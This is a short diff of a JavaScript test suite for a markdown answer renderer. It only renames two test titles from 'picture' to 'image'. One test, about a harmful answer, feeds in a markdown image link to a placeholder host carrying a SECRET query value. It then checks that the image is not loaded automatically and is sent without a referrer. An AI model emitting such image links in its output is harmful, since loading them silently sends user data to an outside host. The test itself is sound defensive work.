@@ -93,7 +93,7 @@ describe('an answer in markdown', () => {
       numbers: [2, 1],
     },
   ])(
-    'finds the pictures in the words of a $language page and in English',
+    'finds the images in the words of a $language page and in English',
     async ({ words, text, numbers }) => {
       const onOpen = vi.fn<(number: number) => void>();
       const screen = await render(
@@ -169,7 +169,7 @@ describe('an answer that means harm', () => {
     expect(requestsTo(HOST)).toEqual([]);
   });
 
-  test('shows the host of a picture, and loads it only after a press, without a referrer', async () => {
+  test('shows the host of an image, and loads it only after a press, without a referrer', async () => {
     const { screen, root } = await show(`![a chart](https://${HOST}/chart.png?d=SECRET)`);
     await expect.element(screen.getByText(`a chart (${HOST})`)).toBeVisible();
     expect(root.querySelector('img')).toBeNull();
